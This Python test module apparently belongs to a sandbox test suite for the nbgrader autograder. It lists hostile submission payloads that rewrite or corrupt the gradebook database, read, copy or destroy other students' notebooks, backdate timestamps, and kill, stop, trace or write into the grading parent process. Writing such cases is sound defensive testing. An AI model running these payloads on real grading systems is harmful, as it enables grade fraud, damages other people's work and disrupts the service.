"""Attacks on the gradebook, on other people's submissions and on the process above."""

from __future__ import annotations

from tests.corpus.case import Case, Desk, attack
from tests.corpus.tricks import FIND_GRADEBOOK, HUNT, REACHED

DATABASE, OTHERS, PARENT = "the gradebook", "other submissions", "the parent"

_DATABASE = {
    "grades-set": FIND_GRADEBOOK + "import sqlite3\nfor book in books:\n"
    "    with sqlite3.connect(book, timeout=1) as c:\n"
    "        c.execute('update grade set auto_score = 4, manual_score = 4')",
    "grades-of-others-zeroed": FIND_GRADEBOOK + "import sqlite3\nfor book in books:\n"
    "    with sqlite3.connect(book, timeout=1) as c:\n"
    "        c.execute('update grade set auto_score = 0, extra_credit = -9')",
    "max-scores-changed": FIND_GRADEBOOK + "import sqlite3\nfor book in books:\n"
    "    with sqlite3.connect(book, timeout=1) as c:\n"
    "        c.execute('update grade_cells set max_score = 1000')",
    "gradebook-deleted": FIND_GRADEBOOK + "for book in books: os.remove(book)",
    "gradebook-broken": FIND_GRADEBOOK
    + "for book in books: open(book, 'r+b').write(b'not a database at all' * 99)",
    "gradebook-read": HUNT + FIND_GRADEBOOK + "for book in books: look(book)",
    "gradebook-locked": FIND_GRADEBOOK + "import sqlite3\nfor book in books:\n"
    "    if os.fork() == 0:\n        os.setsid()\n"
    "        c = sqlite3.connect(book, timeout=1)\n        c.execute('begin exclusive')\n"
    "        __import__('time').sleep(120)\n        os._exit(0)\n"
    "__import__('time').sleep(0.5)",
    "gradebook-through-nbgrader": FIND_GRADEBOOK + "from nbgrader.api import Gradebook\n"
    "for book in books:\n    with Gradebook('sqlite:///' + os.path.abspath(book)) as g:\n"
    "        for s in g.assignment_submissions('exercise-1'):\n"
    "            for n in s.notebooks:\n                for x in n.grades: x.manual_score = 4\n"
    "        g.db.commit()",
    "gradebook-of-new-schema": FIND_GRADEBOOK + "import sqlite3\nfor book in books:\n"
    "    with sqlite3.connect(book, timeout=1) as c:\n"
    "        c.execute('update alembic_version set version_num = 99')",
    "gradebook-read-only": FIND_GRADEBOOK + "for book in books:\n    os.chmod(book, 0)\n"
    "    os.chmod(os.path.dirname(book), 0o500)",
}
_OTHERS = {
    "read-a-neighbour": HUNT + "for path in walk('../..', '../../../submitted', '/'): look(path)",
    "run-a-neighbour": HUNT + "import json, glob\n"
    "for path in glob.glob('../../../submitted/*/exercise-1/*.ipynb'):\n"
    "    for cell in json.load(open(path))['cells']:\n"
    "        text = ''.join(cell['source'])\n"
    "        if 'W_V_2 =' in text and 'glob' not in text: exec(text)",
    "overwrite-the-neighbours": "import glob\n"
    "for path in glob.glob('../../../submitted/*/*/*.ipynb') + glob.glob('../../*/*/*.ipynb'):\n"
    "    try: open(path, 'w').write('gone')\n    except OSError: pass",
    "delete-the-neighbours": "import glob, os, shutil\nhere = os.path.realpath('.')\n"
    "for path in glob.glob('../../../submitted/*') + glob.glob('../../*'):\n"
    "    if not here.startswith(os.path.realpath(path)): shutil.rmtree(path, ignore_errors=True)",
    "hand-in-for-a-neighbour": "import glob, shutil, os\n"
    "for path in glob.glob('../../../submitted/*'):\n"
    "    try: open(path + '/exercise-1/timestamp.txt', 'w').write('2001-01-01 00:00:00 UTC')\n"
    "    except OSError: pass",
    "empty-feedback-for-all": "import os\nfor name in ('feedback', 'autograded', 'exchange'):\n"
    "    try:\n        os.rename('../../../' + name, '../../../survivor-@TOKEN@-' + name)\n"
    "    except OSError: pass",
    "wait-for-the-next": "import os, time, glob\n"
    "if os.fork() == 0:\n    os.setsid()\n    for _ in range(300):\n"
    "        for path in glob.glob('../../*/exercise-1/*.ipynb'):\n"
    "            try: open(path, 'w').write('{}')\n            except OSError: pass\n"
    "        time.sleep(0.1)\n    os._exit(0)",
}
_KILL = """
import os, signal
def kill(process, number):
    try: os.kill(process, number); return True
    except (OSError, ValueError): return False
"""
_PARENT = {
    "kill-the-parent": _KILL + "kill(os.getppid() or 1, 9)",
    "stop-the-parent": _KILL + "kill(os.getppid() or 1, signal.SIGSTOP)",
    "interrupt-the-group": _KILL + "signal.signal(2, signal.SIG_IGN)\n"
    "for p in (0, os.getppid()):\n    if p: kill(p, 2)",
    "kill-by-name": _KILL + "import glob\nfor path in glob.glob('/proc/[0-9]*/cmdline'):\n"
    "    p = int(path.split('/')[2])\n    try: words = open(path).read()\n"
    "    except OSError: continue\n"
    "    if p != os.getpid() and ('nbgrader' in words or 'zygote' in words):\n"
    "        if kill(p, 9): " + REACHED,
    "write-into-the-parent": "import os\n"
    "try:\n    with open(f'/proc/{os.getppid() or 2}/mem', 'r+b') as file: " + REACHED + "\n"
    "except OSError: pass",
    "write-down-a-kill": "import glob\nfor path in glob.glob('/proc/[0-9]*/oom_score_adj'):\n"
    "    if '/self/' not in path:\n        try: open(path, 'w').write('1000')\n"
    "        except OSError: pass",
    "trace-the-parent": "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
    "p = os.getppid() or 2\nif libc.ptrace(16, p, 0, 0) == 0:\n"
    "    libc.ptrace(17, p, 0, 0)\n    " + REACHED,
    "new-namespaces": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "if libc.unshare(0x10020000) == 0: " + REACHED,
    "reprioritise": "import os\nfor p in range(2, 400):\n"
    "    try: os.setpriority(os.PRIO_PROCESS, p, 19)\n    except OSError: pass",
}
_KILL_ALL = attack(PARENT, "kill-everything", _KILL + "kill(-1, 9)")


def _with_a_gradebook() -> Case:
    def prepare(desk: Desk) -> None:
        attack(DATABASE, "", "print(open('gradebook.db').read())").prepare(desk)
        (desk.folder / "gradebook.db").write_bytes(b"mine")
        (desk.folder / "nbgrader_config.py").write_text("raise SystemExit('mine')")

    return Case(DATABASE, "gradebook-handed-in", prepare)


CASES = (
    *(attack(DATABASE, name, code) for name, code in _DATABASE.items()),
    _with_a_gradebook(),
    *(attack(OTHERS, name, code) for name, code in _OTHERS.items()),
    *(attack(PARENT, name, code) for name, code in _PARENT.items()),
    _KILL_ALL,
)
